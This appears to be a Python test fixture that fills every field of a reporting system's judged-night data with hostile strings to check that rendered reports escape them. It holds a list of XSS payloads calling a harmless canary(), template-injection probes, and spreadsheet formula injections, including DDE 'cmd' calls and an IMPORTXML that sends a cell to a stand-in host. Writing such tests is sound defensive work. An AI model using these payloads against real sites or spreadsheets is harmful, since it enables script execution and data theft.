"""A judged night whose every text is hostile: naughty strings and script payloads as titles, labels, addresses.

The strings come from the Big List of Naughty Strings beside the checkout; the payloads call ``canary``, which a page
that runs any of them would reveal.
"""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import replace
from datetime import UTC, datetime

from catalog.district import Organ, OrganKind
from catalog.path import Step
from checks.judging.gaps import gap_id
from ledger.observation import ArticleObservation, Elsewhere, Link, MatchKind, Table
from ledger.review import Review, ReviewConclusion
from ledger.verdict import Gap, GapEvent, GapState, Outcome, Verdict
from reports.pack.source import NightSource, Withheld
from reports.review import fingerprint
from reports.view import Line
from shared_data import SHARED

PAYLOADS = (
    "<script>canary()</script>",
    "</title><script>canary()</script>",
    "</style><script>canary()</script>",
    "</script><script>canary()</script>",
    "</textarea></option></select><script>canary()</script>",
    "--><script>canary()</script><!--",
    "]]><script>canary()</script>",
    '"><script>canary()</script>',
    "'><script>canary()</script>",
    "<img src=x onerror=canary()>",
    '"><img src=x onerror="canary()">',
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s>",
    "<body onload=canary()>",
    "<details open ontoggle=canary()>",
    "<input autofocus onfocus=canary()>",
    "<video><source onerror=canary()></video>",
    "<marquee onstart=canary()>",
    '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    "<iframe src=javascript:parent.canary()></iframe>",
    "<object data=javascript:canary()>",
    "<meta http-equiv=refresh content='0;url=javascript:canary()'>",
    "<base href=//example.invalid/>",
    "<link rel=stylesheet href=//example.invalid/x.css>",
    "<style>@import'//example.invalid/x.css';</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=canary()>",
    '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    "<template><script>canary()</script></template>",
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    "\x01javascript:canary()",
    "data:text/html,<script>parent.canary()</script>",
    'http://127.0.0.1/" onmouseover="canary()',
    "http://127.0.0.1/'onfocus='canary()' autofocus='",
    "http://127.0.0.1/><script>canary()</script>",
    '" autofocus onfocus=canary() x="',
    "' style='x:expression(canary())'",
    "` onload=canary()",
    "{{ canary() }}{% raw %}",
    "{{ ''.__class__.__mro__ }}",
    "${canary()}",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;script&#62;canary()&#60;/script&#62;",
    "\u2028</script><script>canary()</script>",
    "\u202e<script>canary()</script>",
    "\ufeff<script>canary()</script>",
    "+ADw-script+AD4-canary()+ADw-/script+AD4-",
    "\x00<scr\x00ipt>canary()</script>",
    "\ud800<script>canary()</script>",
    '=HYPERLINK("http://example.invalid/","x")',
    "=cmd|'/c calc'!A0",
    '+IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)


def naughty_strings() -> list[str]:
    """The 515 strings of the list."""
    found: list[str] = json.loads((SHARED / "suites" / "blns.json").read_text(encoding="utf-8"))
    return found


def hostile(base: NightSource, strings: Sequence[str]) -> NightSource:
    """The night once more, one obligation a string, each text of the obligation that string.

    Args:
        base: a judged night; its lines with evidence are the patterns, in turn.
    """
    patterns = [line for line in base.view.lines if line.standing.evidence and line.obligation.path]
    gathering = Organ("gathering", "云川区汇总单位", OrganKind.DEPARTMENT, "汇总单位")
    lines = [_line(patterns[n % len(patterns)], n, text, gathering) for n, text in enumerate(strings)]
    organs = (gathering, *(line.obligation.organ for line in lines))
    district = replace(base.view.district, name=strings[0], roster_source=strings[1], organs=organs)
    directories = tuple(line.obligation.directory for line in lines)
    view = replace(
        base.view, district=district, directories=directories, lines=tuple(lines), held_by_incident=strings[2]
    )
    look = base.looks[0].id
    shots = [replace(one, target_uri=text) for one, text in zip(base.snapshots, strings, strict=False)]
    return replace(
        base,
        view=view,
        observations={look: tuple(_article(base, text) for text in strings)},
        verdicts={look: tuple(_verdict(line, text) for line, text in zip(lines, strings, strict=True))},
        gaps=[line.gap for line in lines if line.gap],
        snapshots=[*shots, *base.snapshots[len(shots) :]],
        environment={f"fact_{n}": text for n, text in enumerate(strings)},
        withheld=[_withheld(base, text) for text in strings],
        not_recorded=strings,
    )


def _line(pattern: Line, number: int, text: str, gathering: Organ) -> Line:
    owed, path = pattern.obligation, pattern.obligation.path
    assert path is not None
    organ = Organ(f"organ{number}", text, OrganKind.DEPARTMENT, text)
    labels = (path.steps[0], *(Step(text) for _ in path.steps[1:]))
    path = replace(path, steps=labels, source=text)
    requirement = replace(
        owed.requirement,
        id=f"r{number}",
        title=text,
        clause=text,
        quote=text,
        item=text,
        basis=(text,),
        checklist=(text,),
        paths=(path,),
    )
    directory = replace(
        owed.directory, id=f"n{number}", title=text, document_number=text, issuer=text, requirements=(requirement,)
    )
    owed = replace(
        owed,
        id=f"hostile/r{number}/1@organ{number}",
        directory=directory,
        requirement=requirement,
        organ=organ,
        path=path,
        responsible=(organ, gathering),
        lead=(gathering,),
        venue=text,
        unresolved=(text,),
    )
    standing = replace(
        pattern.standing, obligation_id=owed.id, detail=text, url=_address(number, text), remarks=(text,), caused_by=""
    )
    column = pattern.column and replace(
        pattern.column,
        spelling=text,
        offered=(text,),
        trail=tuple(replace(stop, label=text, url=_address(number, text)) for stop in pattern.column.trail),
        elsewhere=(Elsewhere(_address(number, text), text, MatchKind.ALIAS, (text,), "home", "s"),),
    )
    gap = review = None
    if standing.standing.is_gap:
        event = GapEvent(standing.night, GapState.CONFIRMED, standing.standing, text)
        gap = Gap(gap_id(owed.id), owed.id, GapState.CONFIRMED, standing.standing, standing.night, (event,))
        if number % 3 == 0:
            when = datetime(2021, 12, 1, tzinfo=UTC)
            review = Review(gap.id, ReviewConclusion.TRUE, text, text, fingerprint(standing), when)
    return Line(owed, standing, gap, column, review)


def _address(number: int, text: str) -> str:
    return text if number % 2 else f"http://127.0.0.1/{text}"


def _article(base: NightSource, text: str) -> ArticleObservation:
    return ArticleObservation(
        "portal",
        (text,),
        text,
        base.snapshots[0].id,
        base.snapshots[0].fetched_at,
        "newest",
        title=text,
        text=text,
        tables=(Table((text,), ((text,),)),),
        links=(Link(text, text),),
    )


def _verdict(line: Line, text: str) -> Verdict:
    return Verdict(line.obligation.id, "column.exists", Outcome.SATISFIED, text, line.standing.evidence, url=text)


def _withheld(base: NightSource, text: str) -> Withheld:
    shot = base.snapshots[0]
    return Withheld(shot.id, text, shot.payload_digest, "涉个人信息，留存备查", (text,))
